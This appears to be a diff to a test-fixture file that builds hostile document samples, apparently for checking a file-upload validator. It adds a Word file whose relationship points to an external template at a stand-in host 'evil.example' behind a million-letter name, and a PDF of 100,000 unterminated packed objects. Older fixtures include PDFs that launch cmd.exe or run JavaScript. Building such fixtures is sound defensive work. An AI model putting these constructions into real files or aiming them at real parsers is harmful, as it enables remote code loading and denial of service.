@@ -45,6 +45,19 @@ export const foreignFiles: readonly HostileFile[] = [
   ['rich text', 'a.doc', Buffer.from('{\\rtf1\\ansi\\object\\objdata}')],
 ].map(([is, name, bytes]) => ({ is, name, bytes }) as HostileFile);
 
+/** A document that refers to a template elsewhere behind a name of a million letters, each of which may begin one. */
+function docxOfEndlessName(): Buffer {
+  const template = 'Type="/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"';
+  const bytes = Buffer.from(`<Relationship ${'a'.repeat(1_000_000)} ${template}/>`);
+  return exampleDocx([{ name: 'a.rels', bytes, isStored: true }]);
+}
+
+/** A PDF of objects each of which says that others are packed in it, with nothing that ends their streams. */
+function pdfOfPackedObjects(count: number): Buffer {
+  const object = Buffer.concat([bytesOf('obj<</Filter/Fl/ObjStm 0>>stream\n'), deflateSync(zeros(0))]);
+  return Buffer.concat([bytesOf('%PDF-1.7\n'), ...Array<Buffer>(count).fill(object), bytesOf('\n%%EOF\n')]);
+}
+
 /** Documents that are broken, or are more than a document. */
 export const hostileDocuments: readonly HostileFile[] = [
   ['a PDF behind a web page', 'a.pdf', Buffer.concat([script, examplePdf()])],
@@ -56,6 +69,7 @@ export const hostileDocuments: readonly HostileFile[] = [
   ],
   ['half a PDF', 'a.pdf', examplePdf().subarray(0, 60)],
   ['a PDF that runs a script', 'a.pdf', examplePdf(') /S /JavaScript /JS (app.alert(1)')],
+  ['a PDF of nothing but packed objects', 'a.pdf', pdfOfPackedObjects(100_000)],
   ['a PDF that starts a program', 'a.pdf', examplePdf(') /S /Launch /F (cmd.exe')],
   ['a spreadsheet of old', 'a.doc', exampleDoc(['Root Entry', 'Workbook'])],
   ['an installer', 'a.doc', exampleDoc(['Root Entry', '\u0005SummaryInformation'])],
@@ -72,6 +86,7 @@ export const hostileDocuments: readonly HostileFile[] = [
   ],
   ['a document with macros', 'a.docx', exampleDocx([{ name: 'word/vbaProject.bin' }])],
   ['a document with macros elsewhere', 'a.docx', exampleDocx([{ name: 'custom/VBAPROJECT.BIN' }])],
+  ['a document with an endless name', 'a.docx', docxOfEndlessName()],
   ['a document with a program', 'a.docx', exampleDocx([{ name: 'word/embeddings/setup.exe' }])],
   ['a document without its types', 'a.docx', exampleZip(wordEntries().slice(1))],
   ['a document without a text', 'a.docx', exampleZip(wordEntries().slice(0, 1))],
